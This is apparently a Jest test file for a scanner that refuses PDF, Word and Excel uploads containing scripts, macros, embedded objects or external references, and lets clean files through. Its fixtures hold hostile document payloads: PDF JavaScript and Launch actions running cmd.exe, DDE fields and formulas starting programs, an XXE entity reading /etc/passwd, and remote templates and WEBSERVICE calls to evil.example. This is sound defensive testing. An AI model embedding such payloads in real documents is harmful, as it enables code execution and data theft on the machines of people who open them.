import { describe, expect, test } from '@jest/globals';
import { contentTypes, docx, packedObjects, part, pdf, xlsx } from '../examples/files.ts';
import { inSmallPieces, looked } from '../examples/looked.ts';
import { zipOf } from '../examples/zip.ts';

describe('what runs something is refused', () => {
  test.each([
    ['a script', pdf('3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n')],
    ['a script whose name is hidden', pdf('3 0 obj\n<< /S /J#61vaScr#69pt >>\nendobj\n')],
    ['a program that is started', pdf('3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n')],
    ['a file inside', pdf('3 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n')],
    ['a script in packed objects', pdf(packedObjects('3 0 << /S /JavaScript >>'))],
    ['objects that are packed in another way', pdf(packedObjects('3 0 << >>', '/Filter /LZWDecode'))],
  ])('in a PDF: %s', async (_, bytes) => {
    expect(await looked(bytes, 'a.pdf')).toEqual({ rule: 'file-holds-no-programs' });
    expect(await looked(bytes, 'a.pdf', inSmallPieces(bytes))).toEqual({ rule: 'file-holds-no-programs' });
  });

  test.each([
    ['macros', part('word/vbaProject.bin', 'x')],
    ['an object of another program', part('word/embeddings/oleObject1.bin', 'x')],
    ['controls', part('word/activeX/activeX1.xml', '<x/>')],
    ['a workbook inside', part('word/embeddings/Book.xlsx', 'x')],
  ])('in a docx: %s', async (_, more) => {
    expect(await looked(docx(more), 'a.docx')).toEqual({ rule: 'file-holds-no-programs' });
  });

  test('content types that say macros, whatever the name', async () => {
    const types = contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml');
    expect(await looked(zipOf([types]), 'a.docx')).toEqual({ rule: 'file-holds-no-programs' });
  });

  test('a PDF without any of it passes, packed objects and names in texts included', async () => {
    const bytes = pdf(`${packedObjects('3 0 << /Type /Font >>')}8 0 obj\n(stream of words) /ObjStm\nendobj\n`);
    expect(await looked(bytes, 'a.pdf')).toMatchObject({ kind: 'pdf' });
  });
});

describe('what draws on something outside is refused', () => {
  const external = (type: string, target: string) =>
    part(
      'word/_rels/settings.xml.rels',
      `<Relationship Type="http://x/${type}" Target="${target}" TargetMode="External"/>`,
    );
  test.each([
    ['a template elsewhere', docx(external('attachedTemplate', 'https://evil.example/t.dotm'))],
    ['a picture elsewhere', docx(external('image', 'https://evil.example/1.png'))],
    ['a link to a file', docx(external('hyperlink', 'file:///c:/windows/system32/cmd.exe'))],
    [
      'a field that starts a program',
      docx(part('word/header1.xml', '<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>')),
    ],
    ['a field with its letters hidden', docx(part('word/header1.xml', '<w:instrText>&#x44;DE cmd</w:instrText>'))],
    ['an entity', docx(part('word/header1.xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a/>'))],
  ])('in a docx: %s', async (_, bytes) => {
    expect(await looked(bytes, 'a.docx')).toEqual({ rule: 'file-draws-on-nothing-outside' });
  });

  test.each([
    ['another workbook', part('xl/externalLinks/externalLink1.xml', '<x/>')],
    ['a formula that starts a program', part('xl/worksheets/sheet2.xml', "<c><f>cmd|' /C calc'!A0</f></c>")],
    ['a formula that fetches', part('xl/worksheets/sheet2.xml', '<c><f>WEBSERVICE("http://evil.example")</f></c>')],
    ['the same in UTF-16', part('xl/worksheets/sheet2.xml', Buffer.from('<c><f>WEBSERVICE("x")</f></c>', 'utf16le'))],
    ['a database', part('xl/connections.xml', '<connections/>')],
  ])('in an xlsx: %s', async (_, more) => {
    expect(await looked(xlsx(more), 'a.xlsx')).toEqual({ rule: 'file-draws-on-nothing-outside' });
  });

  test('ordinary formulas and links to the web pass', async () => {
    const formulas = '<c><f>IF(A1="a|b",SUM(Tổng!B1:B9),VLOOKUP(C1,D:E,2,0))</f></c>';
    expect(await looked(xlsx(part('xl/worksheets/sheet2.xml', formulas)), 'a.xlsx')).toMatchObject({ kind: 'xlsx' });
    expect(await looked(docx(), 'a.docx')).toMatchObject({ kind: 'docx' });
  });
});
